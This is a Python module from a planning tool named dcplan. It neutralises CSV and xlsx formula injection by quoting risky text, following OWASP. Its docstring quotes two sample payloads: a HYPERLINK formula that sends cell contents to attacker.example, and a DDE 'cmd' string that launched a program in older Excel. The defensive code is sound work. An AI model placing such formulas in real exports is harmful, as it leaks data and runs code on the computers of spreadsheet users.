"""Text that dcplan writes into spreadsheet files (CSV, ``.xlsx``) is read as text, never as a formula.

A site file's ``name`` or a fleet phase's ``label`` is copied into the TCO finance export and a
sweep's CSV. A spreadsheet opening a CSV evaluates a field that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("https://attacker.example/?q="&B3,"Open")`` sends a cell's content
away when clicked; ``-2+3+cmd|' /C calc'!A0`` ran a program in older Excel), and openpyxl stores a
``str`` beginning with ``=`` as a formula cell. So:

* **CSV** (:func:`safe_text`, :func:`safe_frame`): a text field that begins with ``=``, ``+``,
  ``-``, ``@``, a tab or a carriage return gets a leading ``'``, as the OWASP guidance on CSV
  injection [1]_ recommends; Excel and LibreOffice then show the text, not a result. Numbers stay
  numbers (a negative number is a number, written ``-1.5``, not text), and so does a number written as text
  (:data:`NUMBER_TEXT`: a run's parameter ``-1.0`` in a provenance row, JSON's text of the number): a plain
  decimal number is no formula, and a ``'`` would make a spreadsheet read it as text (out of its sums).
  A lone ``-`` (the Assumptions sheet's unit of a dimensionless switch) is no formula and stays ``-``;
  ``-inf``, ``-1e3+2`` or ``-foo`` are not plain numbers and keep the guard.
* **xlsx** (:func:`text_cells`): every cell dcplan writes is a value; a text cell that openpyxl
  took for a formula (a leading ``=``) or an error code (``#N/A``) is stored as text (an inline
  string), unchanged, and a text cell that begins with one of the characters above carries
  Excel's quote prefix (editing it keeps it text).

References
----------
.. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection (the
   characters ``=``, ``+``, ``-``, ``@``, tab 0x09 and carriage return 0x0D; prefix with ``'``).
"""
from __future__ import annotations

import re

import pandas as pd

__all__ = ["ENCODING", "ENCODING_NOTE", "FORMULA_STARTS", "NUMBER_TEXT", "TEXT_NOTE", "safe_text", "safe_frame",
           "write_csv", "text_cells"]

#: First characters that make a spreadsheet read a CSV field as a formula (OWASP [1]_).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Text that is a plain decimal number (``-1.0``, ``-2.5e-07``, ``+3``): no formula, left as it is by
#: :func:`safe_text`. ASCII digits only: not ``-inf``, ``-nan``, ``-1_000`` (Python's ``float`` reads them; a
#: spreadsheet does not read them as numbers) nor text with spaces or operators after the number.
NUMBER_TEXT = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
#: Every CSV dcplan writes: UTF-8 with a byte-order mark, which Excel needs to read non-ASCII text (above).
ENCODING = "utf-8-sig"
#: What a reader of an export is told about it (the TCO export's About sheet).
ENCODING_NOTE = ("The CSVs are UTF-8 with a byte-order mark (BOM), so that Excel reads their non-ASCII text "
                 "(a § in a source, an accented site name) as written.")
#: What a reader of an export is told (the TCO export's About sheet).
TEXT_NOTE = ("In the CSVs, text that begins with = + - @ (or a tab or carriage return) is written with a "
             "leading ' so that a spreadsheet shows it as text, not a formula; the workbook stores such "
             "text as text, as it is.")


def safe_text(value):
    """``value`` as a CSV field a spreadsheet reads as text: a ``str`` that begins with one of
    :data:`FORMULA_STARTS` gets a leading ``'``; anything else (numbers, a number written as text,
    :data:`NUMBER_TEXT`, and a lone ``-``: a unit placeholder, no formula) is returned as is.

    >>> safe_text("=HYPERLINK(\\"https://x.example\\")")
    '\\'=HYPERLINK("https://x.example")'
    >>> safe_text("-2+3"), safe_text(-2.5), safe_text("phoenix-az")
    ("'-2+3", -2.5, 'phoenix-az')
    >>> safe_text("-1.0"), safe_text("-foo"), safe_text("-inf")
    ('-1.0', "'-foo", "'-inf")
    """
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS) and value != "-"
            and not NUMBER_TEXT.fullmatch(value)):
        return "'" + value
    return value


def _safe_index(idx: pd.Index) -> pd.Index:
    if isinstance(idx, pd.MultiIndex):
        return idx.set_levels([_safe_index(lv) for lv in idx.levels]).set_names(
            [safe_text(n) for n in idx.names])
    if idx.dtype == object or pd.api.types.is_string_dtype(idx.dtype):
        idx = idx.map(safe_text)
    return idx.rename(safe_text(idx.name))


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` for a CSV: :func:`safe_text` applied to every text value, the column names
    and the index (labels and name); number columns are not touched."""
    out = df.copy()
    for j in range(out.shape[1]):
        col = out.iloc[:, j]
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
            out.isetitem(j, col.map(safe_text))
    out.columns = _safe_index(out.columns)
    out.index = _safe_index(out.index)
    return out


def write_csv(df: pd.DataFrame, path, **kw) -> None:
    """``df.to_csv(path, **kw)`` with its text made safe (:func:`safe_frame`), in :data:`ENCODING` (UTF-8 with
    a byte-order mark, for Excel) unless ``encoding`` is given."""
    kw.setdefault("encoding", ENCODING)
    safe_frame(df).to_csv(path, **kw)


def text_cells(ws) -> None:
    """Make every cell of the openpyxl worksheet ``ws`` a value: a cell openpyxl stored as a
    formula (text beginning with ``=``) or an error (text such as ``#N/A``) becomes a text cell
    with the same text; a text cell beginning with one of :data:`FORMULA_STARTS` gets Excel's quote
    prefix (typing over it in Excel keeps it text). dcplan writes no formulas."""
    for cell in list(ws._cells.values()):  # the cells written (iter_rows would create the empty ones)
        if cell.data_type in ("f", "e") and isinstance(cell.value, str):
            cell.data_type = "s"
        if cell.data_type == "s" and isinstance(cell.value, str) and safe_text(cell.value) != cell.value:
            cell.quotePrefix = True
